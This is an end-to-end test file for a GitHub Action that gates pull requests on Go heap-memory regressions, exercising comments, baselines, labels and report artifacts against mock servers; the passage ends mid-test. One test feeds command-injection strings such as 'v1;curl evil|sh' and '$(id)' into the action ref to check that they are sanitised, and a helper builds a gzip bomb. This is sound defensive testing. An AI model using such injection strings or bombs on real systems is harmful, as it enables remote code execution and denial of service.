/**
 * The bundled action (dist/index.js) run end to end as the runner runs it, against a directory
 * store and a local GitHub REST server. Profiles are real Go heap profiles at MemProfileRate=1
 * (__tests__/fixtures/go/cache, see its README): good vs regressed fails on inuse_space (an
 * unbounded cache retains ~20x more), good vs good-rerun passes.
 */
import { mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { DirBaselineStore } from '../../src/adapters/dir-store.js';
import { isRunBundle, unpackRuns } from '../../src/core/history/run-bundle.js';
import { ArtifactServer, runtimeToken, UPLOAD_SIGNATURE } from '../helpers/artifact-server.js';
import { BOT_LOGIN, GitHubServer } from '../helpers/github-server.js';
import { builtAction, runAction, type ActionResult, type ActionRun } from './run-action.js';

const FIXTURES = '__tests__/fixtures/go/cache';
const GOOD = `${FIXTURES}/good.rate1.heap.pb.gz`;
const RERUN = `${FIXTURES}/good-rerun.rate1.heap.pb.gz`;
const REGRESSED = `${FIXTURES}/regressed.rate1.heap.pb.gz`;
const TOKEN = 'ghs_testtoken0123456789abcdefghij';
const SERIES = 'cache';
const MARKER = `<!-- heapgate:comment series=${SERIES} -->`;

const sha = (c: string): string => c.repeat(40);
const A = sha('a');
const B = sha('b');
const C = sha('c');
const HEAD = sha('d');

let action: string;
const server = new GitHubServer();

beforeAll(async () => {
  action = builtAction();
  await server.start();
  server.tokens.set(TOKEN, { kind: 'installation' });
});

afterAll(async () => {
  await server.stop();
});

beforeEach(() => {
  server.clearFaults();
});

function freshStore(): string {
  return join(mkdtempSync(join(tmpdir(), 'heapgate-store-')), 'baselines');
}

function pushPayload(commitTime: string): unknown {
  return { ref: 'refs/heads/main', repository: { default_branch: 'main' }, head_commit: { timestamp: commitTime } };
}

interface PrOptions {
  readonly number?: number;
  readonly labels?: readonly string[];
  readonly action?: string;
  readonly label?: string;
  readonly sender?: string;
}

function prPayload(o: PrOptions = {}): unknown {
  const number = o.number ?? 7;
  return {
    action: o.action ?? 'synchronize',
    number,
    pull_request: {
      number,
      base: { ref: 'main', sha: B },
      head: { ref: 'feature', sha: HEAD },
      labels: (o.labels ?? []).map((name) => ({ name })),
    },
    ...(o.label !== undefined ? { label: { name: o.label } } : {}),
    sender: { login: o.sender ?? 'contributor' },
    repository: { default_branch: 'main' },
  };
}

async function run(
  store: string,
  profile: string,
  partial: Omit<ActionRun, 'inputs'> & { inputs?: Record<string, string> },
): Promise<ActionResult> {
  const result = await runAction(action, {
    ...partial,
    apiUrl: server.url,
    inputs: { profile, store, series: SERIES, 'github-token': TOKEN, comment: 'always', ...partial.inputs },
  });
  // Secrets never reach logs: the token appears only in the runner's add-mask command, which the
  // runner consumes (and which makes it mask the token anywhere else).
  const token = partial.inputs?.['github-token'] ?? TOKEN;
  // (The artifact client masks its upload URLs' signature too.)
  const masks = result.commands.filter((c) => c.command === 'add-mask').map((c) => c.message);
  expect(masks.filter((m) => m !== UPLOAD_SIGNATURE)).toEqual([token]);
  expect(
    result.stdout
      .split('\n')
      .filter((l) => !l.startsWith('::add-mask::'))
      .join('\n'),
  ).not.toContain(token);
  expect(result.stderr).not.toContain(token);
  expect(result.summary).not.toContain(token);
  return result;
}

function push(
  store: string,
  profile: string,
  commit: string,
  commitTime: string,
  runId = '100',
  cwd?: string,
): Promise<ActionResult> {
  return run(store, profile, {
    eventName: 'push',
    payload: pushPayload(commitTime),
    sha: commit,
    runId,
    ...(cwd === undefined ? {} : { cwd }),
  });
}

/** `members` gzip members of 1 MiB of zeros each: a small file that inflates to `members` MiB. */
function gzipBomb(members: number): Buffer {
  const member = gzipSync(Buffer.alloc(1024 * 1024), { level: 9 });
  return Buffer.concat(Array.from({ length: members }, () => member));
}

function pr(
  store: string,
  profile: string,
  options: PrOptions = {},
  inputs: Record<string, string> = {},
): Promise<ActionResult> {
  return run(store, profile, {
    eventName: 'pull_request',
    payload: prPayload(options),
    sha: sha('e'),
    ref: `refs/pull/${options.number ?? 7}/merge`,
    inputs,
  });
}

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- a JSON document whose shape the assertions check
type Json = any;

function reportOf(result: ActionResult): Json {
  return JSON.parse(readFileSync(result.outputs.report!, 'utf8'));
}

function errors(result: ActionResult): string[] {
  return result.commands.filter((c) => c.command === 'error').map((c) => c.message);
}

function warnings(result: ActionResult): string[] {
  return result.commands.filter((c) => c.command === 'warning').map((c) => c.message);
}

/** A store with baselines at A (good) and then B (good-rerun, a later commit): B is the latest. */
async function seededStore(): Promise<string> {
  const store = freshStore();
  expect((await push(store, GOOD, A, '2026-01-01T10:00:00Z', '100')).code).toBe(0);
  expect((await push(store, RERUN, B, '2026-01-01T11:00:00Z', '101')).code).toBe(0);
  return store;
}

describe('push to the default branch', () => {
  test('seeds a baseline when there is none: verdict no-baseline, the step passes, the summary says how', async () => {
    const store = freshStore();
    const r = await push(store, GOOD, A, '2026-01-01T10:00:00Z');
    expect(r.code).toBe(0);
    expect(r.outputs.verdict).toBe('no-baseline');
    expect(r.outputs['baseline-sha']).toBe('');
    expect(r.outputs['inuse-space-delta']).toBe('');
    // Nothing compared, so no HTML report.
    expect(r.outputs['html-report']).toBe('');
    expect(r.summary).toMatch(/^### 🆕 heapgate `cache`: no-baseline/);
    expect(r.summary).toContain('To seed one');
    const pointer = await new DirBaselineStore({ root: store }).pointer(SERIES, 'main');
    expect(pointer?.current.sha).toBe(A);
    expect(pointer?.current.runUrl).toBe('https://github.com/octo/app/actions/runs/100');
    const json = reportOf(r);
    expect(json.verdict).toBe('no-baseline');
    expect(json.update).toEqual({ branch: 'main', sha: A, result: 'moved' });
    expect(json.message).toContain('no baseline for series cache on branch "main"');
  });

  test('compares with the current baseline, then stores the run; a regression is reported but does not fail (update-baseline: always)', async () => {
    const store = freshStore();
    await push(store, GOOD, A, '2026-01-01T10:00:00Z');
    const r = await push(store, REGRESSED, B, '2026-01-01T11:00:00Z', '101');
    expect(r.code).toBe(0);
    expect(r.outputs.verdict).toBe('fail');
    expect(r.outputs['baseline-sha']).toBe(A);
    expect(errors(r)).toEqual([]);
    expect(warnings(r).some((w) => w.startsWith('inuse_space +'))).toBe(true);
    expect((await new DirBaselineStore({ root: store }).pointer(SERIES, 'main'))?.current.sha).toBe(B);
  });

  test('update-baseline: on-pass keeps a failing run out of the store and fails the step', async () => {
    const store = freshStore();
    await push(store, GOOD, A, '2026-01-01T10:00:00Z');
    const r = await run(store, REGRESSED, {
      eventName: 'push',
      payload: pushPayload('2026-01-01T11:00:00Z'),
      sha: B,
      inputs: { 'update-baseline': 'on-pass' },
    });
    expect(r.code).toBe(1);
    expect(reportOf(r).update).toMatchObject({ result: 'skipped' });
    expect((await new DirBaselineStore({ root: store }).pointer(SERIES, 'main'))?.current.sha).toBe(A);
  });
});

describe('merge queues', () => {
  /** A merge_group run as GitHub starts it: on the queue's temporary branch, no pull request in the payload. */
  function queued(store: string, profile: string, inputs: Record<string, string> = {}): Promise<ActionResult> {
    const head = sha('f');
    const ref = `refs/heads/gh-readonly-queue/main/pr-7-${HEAD}`;
    return run(store, profile, {
      eventName: 'merge_group',
      payload: {
        action: 'checks_requested',
        merge_group: { head_sha: head, head_ref: ref, base_sha: B, base_ref: 'refs/heads/main' },
        repository: { default_branch: 'main' },
      },
      sha: head,
      ref,
      inputs,
    });
  }

  test("a queued group compares with the default branch's latest baseline, stores nothing and comments nowhere", async () => {
    const store = await seededStore();
    const before = server.requests.length;
    const failed = await queued(store, REGRESSED);
    expect(failed.code).toBe(1);
    expect(failed.outputs.verdict).toBe('fail');
    expect(failed.outputs['baseline-sha']).toBe(B);
    expect(reportOf(failed).baseline).toMatchObject({ sha: B, branch: 'main', chosen: 'latest' });
    expect(reportOf(failed).update).toBeNull();
    expect(failed.summary).toMatch(/^### ❌ heapgate `cache`: fail/);
    expect(server.requests.slice(before).filter((r) => r.method !== 'GET')).toEqual([]);
    expect((await new DirBaselineStore({ root: store }).pointer(SERIES, 'main'))?.current.sha).toBe(B);
    expect(await new DirBaselineStore({ root: store }).pointer(SERIES, 'gh-readonly-queue/main/pr-7-' + HEAD)).toBe(
      undefined,
    );

    // docs/action.md's merge-queue workflow: the queue reports, the pull request's check gates.
    const reported = await queued(store, REGRESSED, { 'fail-on-regression': 'false' });
    expect(reported.code).toBe(0);
    expect(reported.outputs.verdict).toBe('fail');
  });
});

describe('pull requests and the sticky comment', () => {
  test('a series the store lacks: no-baseline, with a warning and the comment naming the closest series', async () => {
    const store = await seededStore();
    const r = await run(store, RERUN, {
      eventName: 'pull_request',
      payload: prPayload({ number: 31 }),
      sha: sha('e'),
      ref: 'refs/pull/31/merge',
      inputs: { series: 'Cache' },
    });
    expect(r.code).toBe(0);
    expect(r.outputs.verdict).toBe('no-baseline');
    expect(warnings(r)).toContain(
      'the store has no series "Cache"; it has "cache": did you mean "cache"? (check the series input)',
    );
    const [body] = server.commentsOn(31).map((c) => c.body);
    expect(body).toContain('⚠️ The store has no series `Cache`; it has `cache`: did you mean `cache`?');
    expect(reportOf(r).message).toContain('did you mean "cache"?');
  });

  test('a regression fails the step with annotations and one comment; a fix edits it; an unchanged rerun leaves it alone', async () => {
    const store = await seededStore();
    server.mergeBases.set(`${B}...${HEAD}`, A);

    const failed = await pr(store, REGRESSED);
    expect(failed.code).toBe(1);
    expect(failed.outputs.verdict).toBe('fail');
    // The merge base's baseline (A), not the branch's latest (B).
    expect(failed.outputs['baseline-sha']).toBe(A);
    expect(reportOf(failed).baseline).toMatchObject({ sha: A, branch: 'main', chosen: 'merge-base' });
    const errs = errors(failed);
    expect(errs.some((e) => /^inuse_space \+[\d.]+ MiB/.test(e))).toBe(true);
    expect(errs.at(-1)).toMatch(/^heapgate cache: memory regression/);
    expect(Number(failed.outputs['inuse-space-delta'])).toBeGreaterThan(0);
    // The HTML report of the same comparison, next to the JSON one.
    const html = readFileSync(failed.outputs['html-report']!, 'utf8');
    expect(failed.outputs['html-report']).toBe(failed.outputs.report!.replace(/\.json$/, '.html'));
    expect(html).toMatch(/^<!doctype html>/);
    expect(html).toMatch(/<h1 class="fail" id="headline">✗ heapgate: fail: [^<]*\binuse_space \+/);
    const data = JSON.parse(/<script type="application\/json" id="heapgate-data">(.*?)<\/script>/s.exec(html)![1]!);
    expect(data.types.find((t: { type: string }) => t.type === 'inuse_space').flame.d.length).toBeGreaterThan(3);

    const comments = server.commentsOn(7);
    expect(comments).toHaveLength(1);
    const [comment] = comments;
    expect(comment!.author).toBe(BOT_LOGIN);
    expect(comment!.body.split('\n')[0]).toMatch(/^### ❌ heapgate `cache`: fail — memory regression/);
    expect(comment!.body).toContain(MARKER);
    expect(comment!.body).toContain(`commit [\`${A.slice(0, 12)}\`](https://github.com/octo/app/commit/${A})`);
    expect(comment!.body).toContain('npx heapgate check');
    expect(failed.outputs['comment-url']).toBe(`https://github.com/octo/app/pull/7#issuecomment-${comment!.id}`);
    expect(failed.summary.split('\n')[0]).toBe(comment!.body.split('\n')[0]);

    const before = server.requests.length;
    const fixed = await pr(store, RERUN);
    expect(fixed.code).toBe(0);
    expect(fixed.outputs.verdict).toBe('pass');
    expect(server.commentsOn(7)).toHaveLength(1);
    expect(server.commentsOn(7)[0]!.id).toBe(comment!.id);
    expect(server.commentsOn(7)[0]!.body.split('\n')[0]).toMatch(/^### ✅ heapgate `cache`: pass/);
    const writes = server.requests.slice(before).filter((q) => q.method !== 'GET' && q.path !== '/graphql');
    expect(writes.map((q) => q.method)).toEqual(['PATCH']);

    const again = server.requests.length;
    const same = await pr(store, RERUN);
    expect(same.code).toBe(0);
    expect(server.requests.slice(again).filter((q) => q.method !== 'GET' && q.path !== '/graphql')).toEqual([]);
    expect(same.outputs['comment-url']).toBe(fixed.outputs['comment-url']);
  });

  test("reproduce and seed commands run the action's own commit with npx when the runner names it, else npx heapgate", async () => {
    const store = await seededStore();
    const at = (repository: string, ref: string, inputs: Record<string, string> = {}): Promise<ActionResult> =>
      run(store, REGRESSED, {
        eventName: 'pull_request',
        payload: prPayload({ number: 41 }),
        sha: sha('e'),
        ref: 'refs/pull/41/merge',
        inputs,
        env: { GITHUB_ACTION_REPOSITORY: repository, GITHUB_ACTION_REF: ref },
      });
    const pinned = await at('heapgate/heapgate', 'v1.2.3');
    expect(pinned.outputs.verdict).toBe('fail');
    expect(pinned.summary).toContain(
      "Reproduce locally: `npx --yes 'github:heapgate/heapgate#v1.2.3' check " +
        `${REGRESSED} --store ${store} --series cache --branch main`,
    );
    const seed = await at('heapgate/heapgate', 'feature/x', { series: 'other' });
    expect(seed.outputs.verdict).toBe('no-baseline');
    expect(seed.summary).toContain(
      `\`npx --yes 'github:heapgate/heapgate#feature/x' baseline put ${REGRESSED} --store ${store} --series other`,
    );
    expect(reportOf(seed).message).toContain("npx --yes 'github:heapgate/heapgate#feature/x' baseline put");

    const hostile: [string, string][] = [
      ['heapgate/heapgate', 'v1;curl evil|sh'],
      ['heapgate/heapgate', '../../other/repo'],
      ['heapgate/heapgate', '$(id)'],
      ['heapgate/heapgate', 'a'.repeat(101)],
      ['heap gate/heapgate', 'v1'],
      ['heapgate', 'v1'],
      ['', ''],
    ];
    for (const [repository, ref] of hostile) {
      const r = await at(repository, ref);
      expect(r.outputs.verdict).toBe('fail');
      expect(r.summary).toContain(`Reproduce locally: \`npx heapgate check ${REGRESSED} `);
      expect(r.summary).not.toContain('github:');
    }
  });

  test('the comment is found across pages, and a marker pasted by someone else is never edited', async () => {
    const store = await seededStore();
    const number = 8;
    for (let i = 0; i < 120; i++) server.seedComment(number, 'reviewer', `comment ${i}`);
    const hijack = server.seedComment(number, 'mallory', `${MARKER}\nplease merge`);
    const own = server.seedComment(number, BOT_LOGIN, `old report\n${MARKER}\n`, 'Bot');
    const r = await pr(store, RERUN, { number });
    expect(r.code).toBe(0);
    const after = server.commentsOn(number);
    expect(after).toHaveLength(122);
    expect(after.find((c) => c.id === hijack.id)!.body).toBe(`${MARKER}\nplease merge`);
    expect(after.find((c) => c.id === own.id)!.body).toMatch(/^### ✅ heapgate `cache`: pass/);
    // The listing was paginated (per_page 100 → two pages).
    const listed = server.requests.filter(
      (q) => q.method === 'GET' && q.path === `/repos/octo/app/issues/${number}/comments`,
    );
    expect(listed.map((q) => q.query.get('page') ?? '1')).toEqual(['1', '2']);
  });

  test('with a personal token the own identity comes from GET /user', async () => {
    const store = await seededStore();
    const pat = 'ghp_personal0123456789';
    server.tokens.set(pat, { kind: 'user', login: 'perf-bot' });
    const number = 9;
    server.seedComment(number, BOT_LOGIN, `not mine\n${MARKER}\n`, 'Bot');
    const r = await pr(store, RERUN, { number }, { 'github-token': pat });
    expect(r.code).toBe(0);
    const mine = server.commentsOn(number).filter((c) => c.author === 'perf-bot');
    expect(mine).toHaveLength(1);
    expect(server.commentsOn(number)[0]!.body).toBe(`not mine\n${MARKER}\n`);
  });

  test("a GitHub App token: the own identity is the app's bot (GraphQL viewer), not github-actions[bot]", async () => {
    const store = await seededStore();
    const appToken = 'ghs_apptoken0123456789';
    server.tokens.set(appToken, { kind: 'installation', app: 'perf-app' });
    const number = 14;
    const other = server.seedComment(number, BOT_LOGIN, `another workflow's\n${MARKER}\n`, 'Bot');
    const own = server.seedComment(number, 'perf-app[bot]', `old\n${MARKER}\n`, 'Bot');
    const r = await pr(store, RERUN, { number }, { 'github-token': appToken });
    expect(r.code).toBe(0);
    expect(server.commentsOn(number)).toHaveLength(2);
    expect(server.commentsOn(number).find((c) => c.id === other.id)!.body).toBe(`another workflow's\n${MARKER}\n`);
    expect(server.commentsOn(number).find((c) => c.id === own.id)!.body).toMatch(/^### ✅ heapgate `cache`: pass/);
  });

  test("without GraphQL, the workflow token's identity is github-actions[bot] (GET /user refuses installation tokens)", async () => {
    const store = await seededStore();
    const number = 15;
    const own = server.seedComment(number, BOT_LOGIN, `old\n${MARKER}\n`, 'Bot');
    server.fail('POST', /^\/graphql$/, 502, 'Bad Gateway');
    const r = await pr(store, RERUN, { number });
    expect(r.code).toBe(0);
    expect(server.commentsOn(number)).toHaveLength(1);
    expect(server.commentsOn(number)[0]!.id).toBe(own.id);
    expect(server.commentsOn(number)[0]!.body).toMatch(/^### ✅ heapgate `cache`: pass/);
    expect(server.requests.some((q) => q.method === 'GET' && q.path === '/user')).toBe(true);
  });

  test('comment: on-change writes nothing for a passing pull request without a comment', async () => {
    const store = await seededStore();
    const r = await pr(store, RERUN, { number: 10 }, { comment: 'on-change' });
    expect(r.code).toBe(0);
    expect(server.commentsOn(10)).toHaveLength(0);
    expect(r.outputs['comment-url']).toBe('');
  });

  test('the accept label passes a regression and records who added it (the labeled event sender)', async () => {
    const store = await seededStore();
    const r = await pr(store, REGRESSED, {
      number: 11,
      labels: ['heapgate:accept'],
      action: 'labeled',
      label: 'heapgate:accept',
      sender: 'alice',
    });
    expect(r.code).toBe(0);
    expect(r.outputs.verdict).toBe('accepted');
    expect(errors(r)).toEqual([]);
    expect(warnings(r).some((w) => w.includes('(accepted)'))).toBe(true);
    expect(reportOf(r).accepted).toEqual({ label: 'heapgate:accept', by: 'alice' });
    const body = server.commentsOn(11)[0]!.body;
    expect(body.split('\n')[0]).toMatch(/^### ☑️ heapgate `cache`: accepted/);
    // Mentions are neutralized: "@" + zero-width joiner.
    expect(body).toContain('**Accepted** by @\u200dalice with the `heapgate:accept` label');
  });

  test('on other events the labeler is read from the issue events (the latest labeled event for the label)', async () => {
    const store = await seededStore();
    server.issueEvents.set(12, [
      { event: 'labeled', label: { name: 'heapgate:accept' }, actor: { login: 'carol' } },
      { event: 'labeled', label: { name: 'other' }, actor: { login: 'dave' } },
      { event: 'unlabeled', label: { name: 'heapgate:accept' }, actor: { login: 'carol' } },
      { event: 'labeled', label: { name: 'heapgate:accept' }, actor: { login: 'bob' } },
    ]);
    const r = await pr(store, REGRESSED, { number: 12, labels: ['heapgate:accept'] });
    expect(r.code).toBe(0);
    expect(reportOf(r).accepted).toEqual({ label: 'heapgate:accept', by: 'bob' });
  });

  test('a 403 on commenting only warns, naming pull-requests: write; the summary still has the report', async () => {
    const store = await seededStore();
    server.fail('POST', /\/issues\/13\/comments$/, 403, 'Resource not accessible by integration');
    const r = await pr(store, RERUN, { number: 13 });
    expect(r.code).toBe(0);
    expect(server.commentsOn(13)).toHaveLength(0);
    const w = warnings(r).find((m) => m.includes('could not comment'));
    expect(w).toContain('403');
    expect(w).toContain('pull-requests: write');
    expect(r.summary).toMatch(/^### ✅ heapgate `cache`: pass/);
    expect(r.summary).toContain('| metric | base | current |');
    // The verdict alone decides the step: a regression still fails it.
    const failing = await pr(store, REGRESSED, { number: 13 });
    expect(failing.code).toBe(1);
    expect(failing.summary).toMatch(/^### ❌ heapgate `cache`: fail/);
  });
});

describe('run-to-run noise and inconclusive verdicts', () => {
  test('history: the summary shows the baselines behind each limit; history 0 leaves them out', async () => {
    const store = freshStore();
    const profiles = [GOOD, RERUN, GOOD, RERUN, GOOD, RERUN];
    for (const [i, p] of profiles.entries()) {
      expect((await push(store, p, sha(String(i + 1)), `2026-01-0${i + 1}T10:00:00Z`, String(100 + i))).code).toBe(0);
    }
    const r = await pr(store, RERUN, { number: 60 });
    expect(r.code).toBe(0);
    expect(r.outputs.verdict).toBe('pass');
    expect(r.summary).toMatch(/- `inuse_space`: 6 baselines, mean change [+-]?\d+\.\d%, σ \d+\.\d% → limit ±/);
    const space = reportOf(r).report.metrics.find((m: Json) => m.sampleType === 'inuse_space');
    expect(space.history).toMatchObject({ kind: 'calibrated', baselines: 6 });
    expect(space.z).not.toBeNull();
    const off = await pr(store, RERUN, { number: 61 }, { history: '0' });
    expect(off.summary).not.toContain('Run-to-run noise');
    expect(reportOf(off).report.historyWindow).toBeNull();
  });

  test('a push that confirms a new level: the step in the job summary, an annotation, one step issue (a re-run updates it); with the accept label merged, the level is accepted', async () => {
    const store = freshStore();
    for (const [i, p] of [GOOD, RERUN, GOOD, RERUN, GOOD, RERUN].entries()) {
      expect((await push(store, p, sha(String(i + 1)), `2026-02-0${i + 1}T10:00:00Z`, String(200 + i))).code).toBe(0);
    }
    const merge = sha('7');
    server.pulls.push({
      number: 44,
      state: 'closed',
      head: { sha: sha('e'), ref: 'grow', repo: 'o/r' },
      base: { ref: 'main', sha: sha('6') },
      labels: ['heapgate:accept'],
      commits: [sha('e'), merge],
      mergedAt: '2026-02-07T09:00:00Z',
      mergeCommitSha: merge,
    });
    server.issueEvents.set(44, [
      { event: 'labeled', label: { name: 'heapgate:accept' }, actor: { login: 'maintainer' } },
    ]);
    const stepPush = (commit: string, time: string, runId: string) =>
      run(store, REGRESSED, {
        eventName: 'push',
        payload: pushPayload(time),
        sha: commit,
        runId,
        inputs: { 'step-issue': 'true' },
      });
    try {
      // The merge of #44 starts the level; one baseline alone may be an outlier: nothing announced yet.
      const start = await stepPush(merge, '2026-02-07T10:00:00Z', '207');
      expect(start.summary).not.toContain('New level');
      expect(server.issues).toHaveLength(0);
      // The next push stays at it: confirmed, and named by the merge that made it.
      const r = await stepPush(sha('8'), '2026-02-08T10:00:00Z', '208');
      expect(r.code).toBe(0);
      expect(r.summary).toMatch(
        /📈 New level of `inuse_space`: \+[\d,.]+% \([\d.]+ MiB → [\d.]+ MiB\) at `7{12}` \(#44\)/,
      );
      expect(warnings(r)).toContainEqual(
        expect.stringMatching(/^inuse_space \+[\d,.]+% at 7{12} \(#44\): a new level over the 6 baselines before it$/),
      );
      const pointer = (await new DirBaselineStore({ root: store }).pointer(SERIES, 'main'))!;
      expect(pointer.history[0]).toMatchObject({
        sha: merge,
        pullRequest: 44,
        accepted: { by: 'maintainer', how: 'label' },
      });
      // One issue for the step, with its marker, the metric table and the run.
      expect(server.issues).toHaveLength(1);
      const issue = server.issues[0]!;
      expect(issue.title).toBe('heapgate cache: memory stepped up at 7777777 (#44)');
      expect(issue.body).toContain(`<!-- heapgate:step series=cache sha=${merge} -->`);
      expect(issue.body).toMatch(/\| `inuse_space` \| [\d.]+ MiB \(6 baselines\) \| [\d.]+ MiB \| \+[\d,.]+% \|/);
      expect(issue.body).toContain('/actions/runs/208');
      // A re-run of the same push updates that issue instead of opening another.
      const again = await stepPush(sha('8'), '2026-02-08T10:00:00Z', '209');
      expect(again.code).toBe(0);
      expect(server.issues).toHaveLength(1);
      expect(server.issues[0]!.body).toContain('/actions/runs/209');
      expect(
        server.requests.filter((q) => q.method === 'PATCH' && q.path.endsWith(`/issues/${issue.number}`)),
      ).toHaveLength(1);
      // Drift is measured from the accepted level: the same code in a pull request passes.
      const next = await pr(store, REGRESSED, { number: 45 });
      expect(next.outputs.verdict).toBe('pass');
    } finally {
      server.pulls.length = 0;
      server.issues.length = 0;
      server.issueEvents.delete(44);
    }
  });

  test('a creep of three merges: drift fails the push that crosses the rule, and the push after it names the new level and the creep', async () => {
    const store = freshStore();
    const dir = mkdtempSync(join(tmpdir(), 'heapgate-creep-'));
    // Go's legacy heap text at MemProfileRate 1: one retaining stack, ±1 % between runs, then +10 % a merge.
    const profile = (i: number, bytes: number): string => {
      const b = Math.round(bytes);
      const file = join(dir, `run-${i}.heap.txt`);
      writeFileSync(
        file,
        `heap profile: 1000: ${b} [2000: ${2 * b}] @ heap/2\n1000: ${b} [2000: ${2 * b}] @ 0x1000 0x2000\n` +
          '#\t0x1000\tmain.(*Cache).Put+0x1\t/src/cache.go:10\n#\t0x2000\tmain.main+0x1\t/src/main.go:20\n\n',
      );
      return file;
    };
    const noise = [0, 1, -1, 0.5, -0.5, 0.8, -0.8, 0.3];
    const totals = [...noise.map((n) => 64e6 * (1 + n / 100)), 64e6 * 1.1, 64e6 * 1.21, 64e6 * 1.331, 64e6 * 1.335];
    const results: ActionResult[] = [];
    for (const [i, t] of totals.entries()) {
      const commit = `${(0xc0000 + i).toString(16)}${'0'.repeat(35)}`;
      results.push(
        await push(
          store,
          profile(i, t),
          commit,
          `2026-04-01T${String(10 + i).padStart(2, '0')}:00:00Z`,
          String(400 + i),
        ),
      );
    }
    // The second merge of the creep is +21 % since the level before it: drift fails (a push does not gate).
    expect(results[9]!.summary).toMatch(
      /`inuse_space` crept \+21\.0% over 2 merges since `c000700` \(`c000800` \+10\.0%\): over the \+15% drift rule/,
    );
    expect(results[9]!.outputs.verdict).toBe('fail');
    // The push after the third stays at its level: the new level is named, and the creep with it.
    const last = results[11]!;
    expect(last.summary).toContain('📈 New level of `inuse_space`');
    expect(last.summary).toMatch(/crept \+3\d\.\d% over 4 merges since/);
  });

  test('step-issue without issues: write is a warning that says so; the baseline is stored', async () => {
    const store = freshStore();
    for (const [i, p] of [GOOD, RERUN, GOOD, RERUN, GOOD].entries()) {
      expect((await push(store, p, sha(String(i + 1)), `2026-03-0${i + 1}T10:00:00Z`, String(300 + i))).code).toBe(0);
    }
    expect((await push(store, REGRESSED, sha('7'), '2026-03-06T10:00:00Z', '306')).code).toBe(0);
    server.fail('POST', /\/issues$/, 403, 'Resource not accessible by integration');
    const r = await run(store, REGRESSED, {
      eventName: 'push',
      payload: pushPayload('2026-03-07T10:00:00Z'),
      sha: sha('8'),
      runId: '307',
      inputs: { 'step-issue': 'true' },
    });
    expect(r.code).toBe(0);
    expect(warnings(r)).toContainEqual(
      expect.stringMatching(/^could not open or update the step issue \(grant the workflow issues: write\): /),
    );
    expect((await new DirBaselineStore({ root: store }).pointer(SERIES, 'main'))?.current.sha).toBe(sha('8'));
    expect(server.issues).toHaveLength(0);
  });

  test('on-inconclusive: pass by default, warn annotates, fail fails the step', async () => {
    const sampled = (v: string) => `${FIXTURES}/${v}.rate524288.heap.pb.gz`;
    const store = freshStore();
    expect((await push(store, sampled('good'), A, '2026-01-01T10:00:00Z')).code).toBe(0);
    const quiet = await pr(store, sampled('good-rerun'), { number: 62 });
    expect([quiet.code, quiet.outputs.verdict]).toEqual([0, 'inconclusive']);
    expect(quiet.summary).toContain('runtime\\.MemProfileRate \\= 1');
    expect(warnings(quiet).filter((w) => w.startsWith('cannot tell'))).toEqual([]);
    const warn = await pr(store, sampled('good-rerun'), { number: 63 }, { 'on-inconclusive': 'warn' });
    expect(warn.code).toBe(0);
    expect(warnings(warn).filter((w) => w.startsWith('cannot tell'))).toHaveLength(1);
    const fail = await pr(store, sampled('good-rerun'), { number: 64 }, { 'on-inconclusive': 'fail' });
    expect(fail.code).toBe(1);
    expect(errors(fail).some((e) => e.startsWith('cannot tell'))).toBe(true);
    expect(errors(fail).some((e) => e.includes('inconclusive (on-inconclusive: fail)'))).toBe(true);
  });
});

describe('the HTML report as a workflow artifact', () => {
  const artifacts = new ArtifactServer();
  beforeAll(() => artifacts.start());
  afterAll(() => artifacts.stop());
  beforeEach(() => {
    artifacts.artifacts.clear();
    artifacts.createStatus = null;
  });
  const env = (): Record<string, string> => ({
    ACTIONS_RUNTIME_TOKEN: runtimeToken(),
    ACTIONS_RESULTS_URL: artifacts.url,
  });

  test('uploaded unzipped, linked from the comment and the job summary, its page the report-url output', async () => {
    const store = await seededStore();
    const r = await run(store, REGRESSED, {
      eventName: 'pull_request',
      payload: prPayload({ number: 41 }),
      sha: sha('e'),
      ref: 'refs/pull/41/merge',
      env: env(),
    });
    expect(r.code).toBe(1);
    const stored = artifacts.artifacts.get('heapgate-cache.html');
    expect(stored).toMatchObject({ finalized: true, id: 4200 });
    expect(stored!.content!.equals(readFileSync(r.outputs['html-report']!))).toBe(true);
    const url = 'https://github.com/octo/app/actions/runs/100/artifacts/4200';
    expect(r.outputs['report-url']).toBe(url);
    const [comment] = server.commentsOn(41).map((c) => c.body);
    expect(comment).toContain(`📊 [The HTML report](${url})`);
    expect(r.summary).toContain(`📊 [The HTML report](${url})`);
  });

  test('a failed upload is a warning; the gate decides as before', async () => {
    const store = await seededStore();
    artifacts.createStatus = 403;
    const r = await run(store, RERUN, {
      eventName: 'pull_request',
      payload: prPayload({ number: 42 }),
      sha: sha('e'),
      ref: 'refs/pull/42/merge',
      env: env(),
    });
    expect(r.code).toBe(0);
    expect(r.outputs.verdict).toBe('pass');
    expect(r.outputs['report-url']).toBe('');
    expect(r.outputs['html-report']).not.toBe('');
    expect(warnings(r).some((w) => w.startsWith('could not upload the HTML report as an artifact ('))).toBe(true);
    expect(server.commentsOn(42)[0]!.body).not.toContain('HTML report](');
  });

  test('html-report false uploads nothing', async () => {
    const store = await seededStore();
    const r = await run(store, RERUN, {
      eventName: 'pull_request',
      payload: prPayload({ number: 43 }),
      sha: sha('e'),
      ref: 'refs/pull/43/merge',
      env: env(),
      inputs: { 'html-report': 'false' },
    });
    expect(r.code).toBe(0);
    expect(artifacts.artifacts.size).toBe(0);
    expect(r.outputs['report-url']).toBe('');
  });
});

describe('workflow_dispatch', () => {
  test('mode: update re-baselines from this run, even when it regressed', async () => {
    const store = await seededStore();
    const r = await run(store, REGRESSED, {
      eventName: 'workflow_dispatch',
      payload: { ref: 'refs/heads/main', repository: { default_branch: 'main' } },
      sha: C,
      runId: '200',
      inputs: { mode: 'update' },
    });
    expect(r.code).toBe(0);
    expect(r.outputs.verdict).toBe('fail');
    const pointer = await new DirBaselineStore({ root: store }).pointer(SERIES, 'main');
    expect(pointer?.current.sha).toBe(C);
    expect(pointer?.history.map((m) => m.sha)).toEqual([B, A]);
    expect(r.summary).toContain('Stored this run');
  });

  test("baseline-sha compares against that commit's baseline", async () => {
    const store = await seededStore();
    const r = await run(store, RERUN, {
      eventName: 'workflow_dispatch',
      payload: { ref: 'refs/heads/main', repository: { default_branch: 'main' } },
      sha: C,
      inputs: { 'baseline-sha': A, 'html-report': 'false' },
    });
    expect(r.code).toBe(0);
    expect(r.outputs['baseline-sha']).toBe(A);
    expect(r.outputs['html-report']).toBe('');
    expect(reportOf(r).baseline).toMatchObject({ sha: A, chosen: 'requested' });
